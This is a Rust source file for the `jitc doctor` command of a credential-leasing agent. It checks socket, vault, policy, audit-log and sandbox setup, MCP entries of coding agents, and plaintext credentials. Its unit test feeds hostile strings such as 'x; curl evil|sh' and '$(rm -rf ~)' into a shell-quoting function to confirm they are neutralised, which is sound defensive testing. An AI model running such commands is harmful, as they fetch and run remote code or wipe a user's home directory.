//! `jitc doctor`: checks the whole set-up from where the user stands — the socket and its
//! directory, the agent (version, binary, uid, memory protections), the vault, the
//! policy and the identity a request from here gets, the audit trail, what `jitc
//! sandbox` needs, the MCP entries of coding agents, `JITC_SOCK` against systemd's
//! socket, and plaintext credentials in the current directory. One line per check: `ok`,
//! or what is wrong and the command that fixes it. Exit 1 on any problem.
//!
//! It never starts an agent (it reports on the one that is there) and never sends
//! anything that changes state.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use jitc::{Client, Error, Result};
use jitc_protocol::display::visible;
use jitc_protocol::paths::{default_socket_path, socket_path};
use jitc_protocol::{AgentStatus, CommandLine, LeaseRequest};

use super::{emit, print_json};

#[derive(Debug, clap::Args)]
pub struct Args {
    /// Print JSON (a list of {check, ok, detail, fix}) instead of text
    #[arg(long)]
    json: bool,
}

#[derive(Debug, serde::Serialize)]
struct Check {
    check: &'static str,
    ok: bool,
    /// What was found.
    detail: String,
    /// The command (or step) that fixes it, when not ok.
    fix: Option<String>,
}

fn ok(check: &'static str, detail: impl Into<String>) -> Check {
    Check {
        check,
        ok: true,
        detail: detail.into(),
        fix: None,
    }
}

fn bad(check: &'static str, detail: impl Into<String>, fix: impl Into<String>) -> Check {
    Check {
        check,
        ok: false,
        detail: detail.into(),
        fix: Some(fix.into()),
    }
}

pub fn run(args: Args) -> Result<u8> {
    let checks = checks();
    let failed = checks.iter().any(|c| !c.ok);
    if args.json {
        print_json(&checks)?;
    } else {
        let mut text = String::new();
        for c in &checks {
            let status = if c.ok { "ok  " } else { "FAIL" };
            text.push_str(&format!("{status}  {:<9} {}", c.check, c.detail));
            if let Some(fix) = &c.fix {
                text.push_str(&format!("; fix: {fix}"));
            }
            text.push('\n');
        }
        let n = checks.iter().filter(|c| !c.ok).count();
        text.push_str(&match n {
            0 => "all good\n".to_owned(),
            n => format!("{} to fix\n", super::plural(n as u64, "problem")),
        });
        emit(&text)?;
    }
    Ok(u8::from(failed))
}

/// How long the agent may take to answer each question: a hung agent is a finding, not
/// a hung doctor.
const ASK_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(5);

fn checks() -> Vec<Check> {
    let socket = socket_path();
    let mut checks = vec![socket_dir(&socket)];
    let (agent, status) = agent(&socket, &mut checks);
    checks.push(sock_env(&socket, agent.is_some()));
    match (agent, status) {
        (Some(mut client), Some(status)) => {
            checks.push(process(&status));
            checks.push(vault(&status));
            checks.push(policy(&status));
            checks.push(identity(&mut client, &status));
            checks.push(audit(&mut client, &status));
        }
        _ => checks.push(bad(
            "vault",
            "not checked: no agent to ask",
            "start the agent first ('jitc agent'), then run 'jitc doctor' again",
        )),
    }
    checks.push(sandbox());
    checks.extend(mcp_entries());
    checks.push(scan());
    checks
}

/// A path for a line of text: escaped, so no file name can forge a line.
fn shown(p: &Path) -> String {
    visible(&p.display().to_string()).into_owned()
}

/// A word for a command the user may paste into a shell, quoted as `jitc` quotes every
/// command line it shows: a file or server name can neither run anything nor hide what
/// the line does.
fn sh(word: &str) -> String {
    jitc_protocol::display::shell_quote(word).into_owned()
}

fn sh_path(p: &Path) -> String {
    sh(&p.to_string_lossy())
}

fn my_uid() -> u32 {
    nix::unistd::getuid().as_raw()
}

/// What is unsafe about a path (followed, as the agent follows it): another owner
/// (root passes where `root_ok`), or any of the `forbidden` permission bits — the
/// agent's own rules (agentd's `fsperm`), so what it accepts passes here too.
fn unsafe_mode(meta: &std::fs::Metadata, forbidden: u32, root_ok: bool) -> Option<String> {
    let mode = meta.permissions().mode() & 0o7777;
    if meta.uid() != my_uid() && !(root_ok && meta.uid() == 0) {
        return Some(format!("belongs to uid {}, not you", meta.uid()));
    }
    (mode & forbidden != 0).then(|| format!("is mode {mode:04o}"))
}

/// Not writable by others: the vault's and policy's directories, the policy, the log.
const NOT_SHARED: u32 = 0o022;
/// Closed to others: the socket's directory, the vault file and its backup.
const PRIVATE: u32 = 0o077;

fn socket_dir(socket: &Path) -> Check {
    let Some(dir) = socket.parent() else {
        return bad(
            "socket",
            format!("{} has no directory", shown(socket)),
            "set JITC_SOCK to a path in a directory of yours",
        );
    };
    match std::fs::metadata(dir) {
        Err(_) => ok(
            "socket",
            format!("{} is not there yet: the agent makes it (0700)", shown(dir)),
        ),
        Ok(meta) if meta.uid() != my_uid() => bad(
            "socket",
            format!("{} belongs to uid {}, not you", shown(dir), meta.uid()),
            "set JITC_SOCK to a path in a directory of your own, or unset it",
        ),
        Ok(meta) => match unsafe_mode(&meta, PRIVATE, false) {
            Some(why) => bad(
                "socket",
                format!(
                    "{} {why}: others could reach the agent's socket",
                    shown(dir)
                ),
                format!("chmod 700 {} (and 'jitc stop; jitc agent')", sh_path(dir)),
            ),
            None => ok("socket", format!("{} (0700, yours)", shown(socket))),
        },
    }
}

/// The agent on `socket`, without starting one, and its status.
fn agent(socket: &Path, checks: &mut Vec<Check>) -> (Option<Client>, Option<AgentStatus>) {
    let mut client = match Client::connect_within(socket, ASK_TIMEOUT) {
        Ok(c) => c,
        Err(Error::NotRunning { .. }) => {
            checks.push(bad(
                "agent",
                format!("no agent answers on {}", shown(socket)),
                "jitc agent (or: systemctl --user enable --now jitc-agentd.socket)",
            ));
            return (None, None);
        }
        Err(e) => {
            checks.push(bad(
                "agent",
                e.to_string(),
                "restart the agent as said, with the jitc-agentd of this jitc",
            ));
            return (None, None);
        }
    };
    let status = match client.status() {
        Ok(s) => s,
        Err(e) => {
            checks.push(bad("agent", e.to_string(), "jitc stop, then jitc agent"));
            return (None, None);
        }
    };
    checks.push(agent_binary(&status));
    (Some(client), Some(status))
}

/// The agent speaks our protocol (the welcome checked that), is our version, and runs
/// the `jitc-agentd` beside this `jitc` — not one replaced since it started, nor another
/// installation's.
fn agent_binary(status: &AgentStatus) -> Check {
    let restart = format!("jitc stop && jitc agent   # restarts pid {}", status.pid);
    let mine = env!("CARGO_PKG_VERSION");
    if status.agent_version != mine {
        return bad(
            "agent",
            format!(
                "pid {} is jitc-agentd {}, this jitc is {mine}",
                status.pid,
                visible(&status.agent_version)
            ),
            restart,
        );
    }
    let Some(exe) = status.exe.as_deref() else {
        return bad(
            "agent",
            format!("pid {} does not say which binary it runs", status.pid),
            restart,
        );
    };
    if let Some(path) = exe.strip_suffix(" (deleted)") {
        return bad(
            "agent",
            format!(
                "pid {} runs {}, which was replaced or removed since it started (a stale agent)",
                status.pid,
                visible(path)
            ),
            restart,
        );
    }
    let sibling = jitc::start::agentd_binary();
    let same = match (std::fs::canonicalize(exe), std::fs::canonicalize(&sibling)) {
        (Ok(a), Ok(b)) => a == b,
        _ => false,
    };
    if !same {
        return bad(
            "agent",
            format!(
                "pid {} runs {}, not the jitc-agentd of this jitc ({})",
                status.pid,
                visible(exe),
                shown(&sibling)
            ),
            restart,
        );
    }
    ok(
        "agent",
        format!(
            "pid {} answers, jitc-agentd {mine} ({}), protocol {}",
            status.pid,
            visible(exe),
            jitc_protocol::PROTOCOL_VERSION
        ),
    )
}

fn process(status: &AgentStatus) -> Check {
    let p = &status.process;
    if p.uid != my_uid() {
        return bad(
            "memory",
            format!("the agent runs as uid {}, you are {}", p.uid, my_uid()),
            "start your own agent: jitc agent",
        );
    }
    if p.dumpable {
        return bad(
            "memory",
            "the agent is dumpable: a process of yours could read its memory",
            "jitc stop && jitc agent (and report it: the agent should refuse to start so)",
        );
    }
    if p.core_limit != Some(0) {
        return bad(
            "memory",
            "the agent may write core files",
            "jitc stop && jitc agent (and report it)",
        );
    }
    let limit = p
        .memlock_limit
        .map_or("unlimited".to_owned(), |l| format!("{} KiB", l / 1024));
    if p.memlock_limit.is_some_and(|l| l < p.memlock_needed) {
        return bad(
            "memory",
            format!(
                "RLIMIT_MEMLOCK is {limit}, the keys need {} KiB: they could be swapped out",
                p.memlock_needed / 1024
            ),
            "raise it (LimitMEMLOCK=8M in the unit, or memlock in /etc/security/limits.conf), then restart the agent",
        );
    }
    if !status.locked && !status.memory_locked {
        return bad(
            "memory",
            format!("the vault key is not locked in memory (RLIMIT_MEMLOCK {limit})"),
            "raise RLIMIT_MEMLOCK, then restart the agent and unlock",
        );
    }
    let key = if status.locked {
        "vault locked"
    } else {
        "key locked in RAM"
    };
    ok(
        "memory",
        format!(
            "uid {}, not dumpable, no core files, RLIMIT_MEMLOCK {limit}, {key}",
            p.uid
        ),
    )
}

fn vault(status: &AgentStatus) -> Check {
    let path = PathBuf::from(&status.vault);
    if !status.vault_exists {
        return bad(
            "vault",
            format!("no vault at {}", shown(&path)),
            "jitc init (or set JITC_VAULT to where yours is, and restart the agent)",
        );
    }
    let dir = path.parent().unwrap_or(Path::new("/"));
    let backup = {
        let mut b = path.clone().into_os_string();
        b.push(".bak");
        PathBuf::from(b)
    };
    for (p, forbidden, fix) in [
        (dir, NOT_SHARED, "go-w"),
        (&*path, PRIVATE, "600"),
        (&*backup, PRIVATE, "600"),
    ] {
        let Ok(meta) = std::fs::metadata(p) else {
            continue;
        };
        if let Some(why) = unsafe_mode(&meta, forbidden, false) {
            return bad(
                "vault",
                format!("{} {why}", shown(p)),
                format!("chmod {fix} {}", sh_path(p)),
            );
        }
    }
    let state = match (status.locked, status.secrets) {
        (true, _) => "locked ('jitc unlock' to lease)".to_owned(),
        (false, Some(n)) => format!("unlocked, {}", super::plural(u64::from(n), "secret")),
        (false, None) => "unlocked".to_owned(),
    };
    ok("vault", format!("{} (0600, yours), {state}", shown(&path)))
}

fn policy(status: &AgentStatus) -> Check {
    let path = PathBuf::from(&status.policy.path);
    let dir = path.parent().unwrap_or(Path::new("/"));
    for p in [dir, &*path] {
        let Ok(meta) = std::fs::metadata(p) else {
            continue;
        };
        if let Some(why) = unsafe_mode(&meta, NOT_SHARED, true) {
            return bad(
                "policy",
                format!(
                    "{} {why}: someone else could change who gets your secrets",
                    shown(p)
                ),
                format!("chmod go-w {}", sh_path(p)),
            );
        }
    }
    if let Some(e) = &status.policy.error {
        return bad(
            "policy",
            format!("{}: {} — every lease is refused", shown(&path), visible(e)),
            format!(
                "edit {} ('jitc policy explain' shows what it decides)",
                sh_path(&path)
            ),
        );
    }
    if !status.policy.exists {
        return ok(
            "policy",
            format!("{} absent: the defaults apply", shown(&path)),
        );
    }
    ok("policy", format!("{} parses", shown(&path)))
}

/// What the agent makes of a request from here: the sandbox it comes from, or the
/// profile its ancestry gets.
fn identity(client: &mut Client, status: &AgentStatus) -> Check {
    let request = LeaseRequest {
        secrets: Vec::new(),
        command: CommandLine {
            path: "/bin/true".into(),
            argv: vec!["true".into()],
            cwd: std::env::current_dir()
                .map(|d| d.display().to_string())
                .unwrap_or_else(|_| "/".into()),
        },
        task: None,
        ttl_ms: None,
        masking: true,
        proxy: false,
    };
    match client.explain(request) {
        Ok(e) => {
            let sandbox = status
                .caller_sandbox
                .map(|id| format!("sandbox {id}, "))
                .unwrap_or_default();
            ok(
                "identity",
                format!(
                    "a request from here: {sandbox}profile {} ({})",
                    visible(e.profile.as_deref().unwrap_or("none")),
                    visible(&e.identity)
                ),
            )
        }
        Err(e) => bad(
            "identity",
            format!("the agent cannot say: {e}"),
            "jitc policy explain -s NAME -- CMD",
        ),
    }
}

fn audit(client: &mut Client, status: &AgentStatus) -> Check {
    let path = PathBuf::from(&status.audit.path);
    if let Some(e) = &status.audit.error {
        return bad(
            "audit",
            format!("{}: {}", shown(&path), visible(e)),
            format!("chmod u+w {}, then 'jitc status'", sh_path(&path)),
        );
    }
    for p in [path.parent().unwrap_or(Path::new("/")), &*path] {
        if std::fs::metadata(p).is_err() {
            continue;
        }
        if let Err(e) = nix::unistd::access(p, nix::unistd::AccessFlags::W_OK) {
            return bad(
                "audit",
                format!("{} is not writable ({e}): leases will be refused", shown(p)),
                format!("chmod u+w {}", sh_path(p)),
            );
        }
    }
    if let Some(t) = &status.audit.tampered {
        return bad(
            "audit",
            format!("{}: {}", shown(&path), visible(t)),
            "jitc audit verify; if the break is known and explained: jitc audit accept",
        );
    }
    if status.locked {
        return ok(
            "audit",
            format!("{} writable (verified at unlock)", shown(&path)),
        );
    }
    match client.audit_verify() {
        Ok(r) => match &r.problem {
            None => ok(
                "audit",
                format!("{} writable, verifies ({} records)", shown(&path), r.lines),
            ),
            Some(problem) => bad(
                "audit",
                format!("{}: {}", shown(&path), visible(problem)),
                "jitc audit verify; if the break is known and explained: jitc audit accept",
            ),
        },
        Err(e) => bad("audit", e.to_string(), "jitc audit verify"),
    }
}

/// `JITC_SOCK` in this shell against where systemd's socket unit listens (and, without
/// one, against the default socket).
fn sock_env(socket: &Path, answers: bool) -> Check {
    let default = default_socket_path();
    let set = jitc::start::explicit_socket();
    if let Some(listen) = systemd_socket() {
        if listen != socket {
            return bad(
                "JITC_SOCK",
                format!(
                    "this shell uses {}, but systemd's jitc-agentd.socket listens on {}",
                    shown(socket),
                    shown(&listen)
                ),
                "unset JITC_SOCK (and drop the line that sets it from your shell's rc file)",
            );
        }
        return ok(
            "JITC_SOCK",
            format!(
                "agrees with systemd's jitc-agentd.socket ({})",
                shown(&listen)
            ),
        );
    }
    if set && socket != default {
        let other = Client::connect_within(&default, ASK_TIMEOUT).is_ok();
        if !answers && other {
            return bad(
                "JITC_SOCK",
                format!(
                    "JITC_SOCK is {}, where no agent answers; yours answers on {}",
                    shown(socket),
                    shown(&default)
                ),
                "unset JITC_SOCK, or eval \"$(jitc agent)\"",
            );
        }
        if answers && other {
            return bad(
                "JITC_SOCK",
                format!(
                    "two agents: one on JITC_SOCK ({}), one on {}",
                    shown(socket),
                    shown(&default)
                ),
                format!(
                    "stop the one you do not use: JITC_SOCK={} jitc stop",
                    sh_path(&default)
                ),
            );
        }
        return ok(
            "JITC_SOCK",
            format!("{} (set in this shell)", shown(socket)),
        );
    }
    ok(
        "JITC_SOCK",
        if set {
            "set to the default socket".to_owned()
        } else {
            "not set: the default socket".to_owned()
        },
    )
}

/// Where an active `jitc-agentd.socket` of the user's systemd listens, if there is one.
fn systemd_socket() -> Option<PathBuf> {
    let out = Command::new("systemctl")
        .args([
            "--user",
            "show",
            "jitc-agentd.socket",
            "--property=ActiveState",
            "--property=Listen",
        ])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .output()
        .ok()?;
    let text = String::from_utf8_lossy(&out.stdout);
    let mut active = false;
    let mut listen = None;
    for line in text.lines() {
        match line.split_once('=') {
            Some(("ActiveState", s)) => active = s == "active",
            Some(("Listen", l)) => listen = l.split(" (").next().map(PathBuf::from),
            _ => {}
        }
    }
    listen.filter(|_| active)
}

/// What `jitc sandbox` needs: bubblewrap, and user namespaces it may use — tried, not
/// guessed from sysctls.
fn sandbox() -> Check {
    let Some(bwrap) = on_path("bwrap") else {
        return bad(
            "sandbox",
            "bubblewrap (bwrap) is not installed: 'jitc sandbox' cannot run",
            "sudo apt install bubblewrap (or your system's package)",
        );
    };
    let tried = Command::new(&bwrap)
        .args([
            "--ro-bind",
            "/",
            "/",
            "--unshare-user",
            "--unshare-pid",
            "--",
            "/bin/true",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    match tried {
        Ok(s) if s.success() => ok(
            "sandbox",
            format!("{} works with user namespaces", shown(&bwrap)),
        ),
        _ => bad(
            "sandbox",
            format!(
                "{} cannot make a user namespace here: 'jitc sandbox' cannot run",
                shown(&bwrap)
            ),
            "allow unprivileged user namespaces (Ubuntu: an AppArmor profile for bwrap; elsewhere: sysctl user.max_user_namespaces, kernel.unprivileged_userns_clone) — see the README's sandbox section",
        ),
    }
}

/// `name` found on `PATH` as the shell (execvp) would find it.
fn on_path(name: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH");
    let cwd = std::env::current_dir().ok()?;
    jitc::exec::command::resolve(vec![name.into()], path.as_deref(), &cwd)
        .ok()
        .map(|p| p.path)
}

/// The MCP entries of Codex (`~/.codex/config.toml`) and Claude Code (`~/.claude.json`,
/// `./.mcp.json`) that run a `jitc`: each must run this one.
fn mcp_entries() -> Vec<Check> {
    let home = std::env::var_os("HOME")
        .map(PathBuf::from)
        .unwrap_or_default();
    let codex = std::env::var_os("CODEX_HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|| home.join(".codex"))
        .join("config.toml");
    let mut found: Vec<(PathBuf, &'static str, String, String)> = Vec::new();
    if let Some(text) = read_small(&codex)
        && let Ok(doc) = text.parse::<toml::Table>()
        && let Some(servers) = doc.get("mcp_servers").and_then(|s| s.as_table())
    {
        for (name, server) in servers {
            if let Some(cmd) = server.get("command").and_then(|c| c.as_str()) {
                found.push((codex.clone(), "codex", name.clone(), cmd.to_owned()));
            }
        }
    }
    let cwd = std::env::current_dir().unwrap_or_default();
    for (file, project_key) in [
        (home.join(".claude.json"), Some(cwd.display().to_string())),
        (cwd.join(".mcp.json"), None),
    ] {
        let Some(doc) =
            read_small(&file).and_then(|t| serde_json::from_str::<serde_json::Value>(&t).ok())
        else {
            continue;
        };
        let mut tables = vec![&doc["mcpServers"]];
        if let Some(key) = &project_key {
            tables.push(&doc["projects"][key]["mcpServers"]);
        }
        for servers in tables {
            if let Some(servers) = servers.as_object() {
                for (name, server) in servers {
                    if let Some(cmd) = server["command"].as_str() {
                        found.push((file.clone(), "claude", name.clone(), cmd.to_owned()));
                    }
                }
            }
        }
    }
    let me = std::env::current_exe()
        .ok()
        .and_then(|e| std::fs::canonicalize(e).ok());
    let mut checks = Vec::new();
    for (file, host, name, command) in found {
        let runs_jitc = Path::new(&command).file_name().is_some_and(|n| n == "jitc");
        if !runs_jitc {
            continue;
        }
        let resolved = if command.contains('/') {
            Some(PathBuf::from(&command))
        } else {
            on_path(&command)
        };
        let target = resolved
            .as_deref()
            .and_then(|p| std::fs::canonicalize(p).ok());
        let fix = |me: &Path| {
            let name = sh(&name);
            format!(
                "{host} mcp remove {name} && {host} mcp add {name} -- {} mcp",
                sh_path(me)
            )
        };
        match (&target, &me) {
            (Some(t), Some(m)) if t == m => checks.push(ok(
                "mcp",
                format!("{}: '{}' runs this jitc", shown(&file), visible(&name)),
            )),
            (_, Some(m)) => checks.push(bad(
                "mcp",
                format!(
                    "{}: '{}' runs {}, not this jitc ({})",
                    shown(&file),
                    visible(&name),
                    visible(&command),
                    shown(m)
                ),
                fix(m),
            )),
            (_, None) => {}
        }
    }
    if checks.is_empty() {
        let me = me.map(|m| sh_path(&m)).unwrap_or_else(|| "jitc".into());
        checks.push(ok(
            "mcp",
            format!("no coding agent runs jitc over MCP yet (codex mcp add jitc -- {me} mcp)"),
        ));
    }
    checks
}

/// A configuration file, if it is a regular file (not a FIFO that would block, nor a
/// device that never ends — a cloned repository can hold either) of a sane size: read
/// as `jitc scan` reads files.
fn read_small(path: &Path) -> Option<String> {
    const MAX: u64 = 64 << 20;
    let bytes = jitc::scan::read_capped(path, MAX, true).ok()??;
    String::from_utf8(bytes).ok()
}

/// Most files `doctor` reads in the current directory; `jitc scan` reads them all.
const SCAN_FILES: usize = 20_000;

fn scan() -> Check {
    let here = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
    let home = std::env::var_os("HOME").map(PathBuf::from);
    if here == Path::new("/") || home.is_some_and(|h| h == here) {
        return ok(
            "scan",
            "not run in your home directory: run 'jitc doctor' or 'jitc scan' in a project",
        );
    }
    match jitc::scan::scan_at_most(Path::new("."), SCAN_FILES) {
        Ok(r) if r.findings.is_empty() && r.stopped => ok(
            "scan",
            format!("none in the first {SCAN_FILES} files here; 'jitc scan' reads them all"),
        ),
        Ok(r) if r.findings.is_empty() => ok("scan", "no plaintext credentials in this directory"),
        Ok(r) => {
            let first = &r.findings[0];
            let mut files: Vec<&str> = r.findings.iter().map(|f| f.path.as_str()).collect();
            files.dedup();
            bad(
                "scan",
                format!(
                    "{} in this directory an agent could read (first: {}:{} {})",
                    super::plural(r.findings.len() as u64, "plaintext credential"),
                    visible(&first.path),
                    first.line,
                    visible(&first.kind)
                ),
                format!(
                    "jitc import {} > .env.jitc, then delete it ('jitc scan' lists them all)",
                    sh(files[0])
                ),
            )
        }
        Err(e) => bad("scan", e.to_string(), "jitc scan"),
    }
}

#[cfg(test)]
mod tests {
    use super::sh;

    #[test]
    fn words_for_the_shell_run_nothing_and_hide_nothing() {
        assert_eq!(sh("/home/u/.local/bin/jitc"), "/home/u/.local/bin/jitc");
        assert_eq!(sh("x; curl evil|sh"), "'x; curl evil|sh'");
        assert_eq!(sh("it's $(rm -rf ~)"), r"'it'\''s $(rm -rf ~)'");
        assert_eq!(sh("a\u{1b}]0;pwned\u{7}b"), r"$'a\x1b]0;pwned\x07b'");
        assert_eq!(sh("~/x"), "'~/x'");
        assert_eq!(sh(""), "''");
    }
}
